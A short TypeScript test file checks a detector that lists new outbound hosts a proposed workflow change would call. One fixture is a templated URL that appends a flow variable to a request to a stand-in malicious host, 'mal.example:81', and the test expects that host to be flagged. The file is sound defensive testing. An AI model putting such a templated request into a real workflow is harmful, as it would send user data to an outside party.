import { expect, test } from 'vitest';
import type { FlowDocument } from '#flow/document.ts';
import { newAddresses } from './new-addresses.ts';

const flow = (...urls: string[]) =>
  ({
    nodes: urls.map((url, n) => ({ id: `n${n}`, type: 'http.request', config: { url } })),
  }) as unknown as FlowDocument;

test('what a proposal would call, and the flow never called, is named', () => {
  const before = flow('https://erp.example/pedidos');
  expect(
    newAddresses(before, flow('https://ERP.example/outro', "{{ 'http://mal.example:81/x?y=' + vars.a }}")),
  ).toEqual(['mal.example:81']);
  expect(newAddresses(before, before)).toEqual([]);
});
